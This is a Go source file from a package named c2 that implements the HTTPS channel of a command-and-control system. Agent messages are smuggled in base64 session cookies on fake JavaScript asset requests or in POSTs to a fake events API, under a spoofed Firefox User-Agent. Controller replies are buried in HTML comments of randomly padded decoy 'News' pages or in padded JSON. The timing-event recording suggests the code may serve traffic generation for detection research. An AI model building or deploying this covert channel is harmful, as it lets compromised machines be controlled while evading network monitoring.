package c2

import (
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptrace"
	"os/exec"
	"regexp"
	"strings"
	"sync"
	"time"
)

// httpsChannel sends each message in a request.
type httpsChannel struct {
	plan   Plan
	client *http.Client
	rng    *rand.Rand
}

func openHTTPS(p Plan, rng *rand.Rand) (channel, error) {
	return &httpsChannel{plan: p, rng: rng, client: httpsClient(p)}, nil
}

func (c *httpsChannel) limit() int { return 512 << 10 }

func (c *httpsChannel) close() { c.client.CloseIdleConnections() }

// request makes the request that carries a message.
func (c *httpsChannel) request(up []byte) (method, path string, header http.Header, body []byte) {
	header = http.Header{}
	header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	if c.plan.Shape == "cookie" && len(up) < 1000 {
		header.Set("Cookie", "session="+base64.RawURLEncoding.EncodeToString(up))
		return "GET", fmt.Sprintf("/assets/%d.js", c.rng.IntN(1000)), header, nil
	}
	kind, body := wrap(c.plan.Shape, up, c.rng)
	header.Set("Content-Type", kind)
	return "POST", "/api/v2/events", header, body
}

func (c *httpsChannel) exchange(ctx context.Context, up []byte) ([]byte, []Event, error) {
	method, path, header, body := c.request(up)
	data, events, err := c.do(ctx, method, path, header, body)
	if err != nil {
		return nil, nil, err
	}
	down, err := unwrap(c.plan.Shape, data)
	return down, events, err
}

// do makes a request and returns the body of its answer.
func (c *httpsChannel) do(ctx context.Context, method, path string, header http.Header, body []byte) ([]byte, []Event, error) {
	url := "https://" + c.plan.Name + path
	if c.plan.Client == "curl" {
		return c.curl(ctx, method, url, header, body)
	}
	var events []Event
	var began, ready time.Time
	var conn net.Conn
	trace := &httptrace.ClientTrace{
		ConnectStart: func(string, string) { began = time.Now() },
		GotConn:      func(i httptrace.GotConnInfo) { conn, ready = i.Conn, time.Now() },
	}
	q, err := http.NewRequestWithContext(httptrace.WithClientTrace(ctx, trace), method, url, bytes.NewReader(body))
	if err != nil {
		return nil, nil, err
	}
	q.Header = header
	a, err := c.client.Do(q)
	if err != nil {
		return nil, nil, err
	}
	defer a.Body.Close()
	data, err := content(a)
	if err != nil || conn == nil {
		return nil, nil, fmt.Errorf("%s: %w", url, err)
	}
	e := Event{Proto: "tcp", Local: conn.LocalAddr().String(), Remote: conn.RemoteAddr().String(), T0: ready.UnixNano(), T1: time.Now().UnixNano()}
	if !began.IsZero() {
		h := e
		h.T0, h.T1, h.State = began.UnixNano(), ready.UnixNano(), "handshake"
		events = append(events, h)
	}
	return data, append(events, e), nil
}

// content reads what was answered, which must be well.
func content(a *http.Response) ([]byte, error) {
	data, err := io.ReadAll(a.Body)
	if err == nil && a.StatusCode != http.StatusOK {
		err = errors.New(a.Status)
	}
	return data, err
}

// curl lets curl make the request.
func (c *httpsChannel) curl(ctx context.Context, method, url string, header http.Header, body []byte) ([]byte, []Event, error) {
	args := []string{"-sSf", "--http1.1", "--resolve", fmt.Sprintf("%s:443:%s", c.plan.Name, c.plan.Server.Addr()),
		"-v", "--trace-time", "-w", "%{stderr}\\nflow %{local_ip}:%{local_port} %{remote_ip}:%{remote_port}"}
	if c.plan.HTTP2 {
		args[1] = "--http2"
	}
	if c.plan.Insecure {
		args = append(args, "-k")
	}
	for name := range header {
		args = append(args, "-H", name+": "+header.Get(name))
	}
	if method == "POST" {
		args = append(args, "--data-binary", "@-")
	}
	cmd := exec.CommandContext(ctx, "curl", append(args, url)...)
	var said trace
	cmd.Stdin, cmd.Stderr = bytes.NewReader(body), &said
	start := time.Now()
	data, err := cmd.Output()
	if err != nil {
		return nil, nil, fmt.Errorf("curl: %w %s", err, string(said.text))
	}
	e := Event{Proto: "tcp"}
	_, flow, _ := strings.Cut(string(said.text), "\nflow ")
	if n, _ := fmt.Sscan(flow, &e.Local, &e.Remote); n != 2 {
		return nil, nil, fmt.Errorf("curl says %q", string(said.text))
	}
	asked, over, err := said.times()
	if err != nil {
		return nil, nil, err
	}
	h := e
	h.T0, h.T1, h.State = start.UnixNano(), asked.UnixNano(), "handshake"
	e.T0, e.T1 = h.T1, over.UnixNano()
	return data, []Event{h, e}, nil
}

// trace is what curl tells with --trace-time, and when it came. Differences of
// its times are exact, but its clock is up to a second off; what came soonest
// after it was told says how much.
type trace struct {
	text []byte
	at   []time.Time // when each byte's write came; the same for all of one
}

func (t *trace) Write(b []byte) (int, error) {
	now := time.Now()
	for range b {
		t.at = append(t.at, now)
	}
	t.text = append(t.text, b...)
	return len(b), nil
}

var traceLine = regexp.MustCompile(`(?m)^(\d\d:\d\d:\d\d\.\d{6}) ([*<>{}])`)

// times are when curl sent its request and when the last of the answer came:
// curl ends then, and says something about the connection.
func (t *trace) times() (asked, over time.Time, err error) {
	var first, offset time.Time // of the trace's clock; what is its start by ours
	for _, m := range traceLine.FindAllSubmatchIndex(t.text, -1) {
		at, err := time.Parse("15:04:05.000000", string(t.text[m[2]:m[3]]))
		if err != nil {
			return asked, over, err
		}
		if first.IsZero() {
			first = at
		}
		if at.Before(first) {
			at = at.AddDate(0, 0, 1) // after midnight
		}
		if o := t.at[m[0]].Add(first.Sub(at)); offset.IsZero() || o.Before(offset) {
			offset = o
		}
		if t.text[m[4]] == '>' && asked.IsZero() {
			asked = at
		}
		over = at
	}
	if asked.IsZero() {
		return asked, over, fmt.Errorf("no request in curl's trace %q", t.text)
	}
	return offset.Add(asked.Sub(first)), offset.Add(over.Sub(first)), nil
}

// pages answers agents' messages in requests, WebSockets and streams.
func (c *controller) pages() http.Handler {
	var mu sync.Mutex
	rng := rand.New(rand.NewPCG(c.plan.Seed, 2))
	answer := func(w http.ResponseWriter, q *http.Request) error {
		up, err := io.ReadAll(io.LimitReader(q.Body, 16<<20))
		if err != nil {
			return err
		}
		if cookie, none := q.Cookie("session"); none == nil {
			up, err = base64.RawURLEncoding.DecodeString(cookie.Value)
		} else {
			up, err = unwrap(c.plan.Shape, up)
		}
		if err != nil {
			return err
		}
		down, err := c.handle(up)
		if err != nil {
			return err
		}
		mu.Lock()
		kind, body := wrap(c.plan.Shape, down, rng)
		mu.Unlock()
		w.Header().Set("Content-Type", kind)
		_, err = w.Write(body)
		return err
	}
	return http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		if q.Header.Get("Upgrade") == "websocket" {
			c.serveWebSocket(w, q)
			return
		}
		if q.URL.Path == streamPath {
			c.serveStream(w, q)
			return
		}
		if err := answer(w, q); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
		}
	})
}

// serveHTTPS answers agents' requests, with a web server before it or without.
func (c *controller) serveHTTPS(ctx context.Context) error {
	server := &http.Server{Handler: c.pages()}
	context.AfterFunc(ctx, func() { server.Close() })
	var err error
	if c.plan.Front {
		server.Addr = fmt.Sprintf("127.0.0.1:%d", frontPort)
		err = server.ListenAndServe()
	} else {
		server.Addr = ":443"
		err = server.ListenAndServeTLS("cert.pem", "cert.key")
	}
	if !errors.Is(err, http.ErrServerClosed) {
		return err
	}
	return nil
}

// wrap puts a message into a body of a shape, unwrap takes it out.
func wrap(shape string, m []byte, rng *rand.Rand) (kind string, body []byte) {
	text := base64.StdEncoding.EncodeToString(m)
	switch shape {
	case "cookie":
		page := "<!doctype html><title>News</title>" + filler(1500+rng.IntN(5000), rng)
		return "text/html", []byte(page + "<!-- data: " + text + " -->")
	case "json":
		return "application/json", []byte(`{"v":2,"data":"` + text + `","pad":"` + filler(rng.IntN(1500), rng) + `"}`)
	}
	return "application/octet-stream", m
}

func unwrap(shape string, body []byte) ([]byte, error) {
	before, after := "<!-- data: ", " -->"
	switch shape {
	case "raw":
		return body, nil
	case "json":
		before, after = `"data":"`, `"`
	}
	if _, rest, ok := strings.Cut(string(body), before); ok {
		if text, _, ok := strings.Cut(rest, after); ok {
			return base64.StdEncoding.DecodeString(text)
		}
	}
	return nil, fmt.Errorf("no message in a body of %d bytes", len(body))
}

// filler is n letters, which hardly shrink when they are compressed.
func filler(n int, rng *rand.Rand) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ012345678 <>"[rng.IntN(64)]
	}
	return string(b)
}
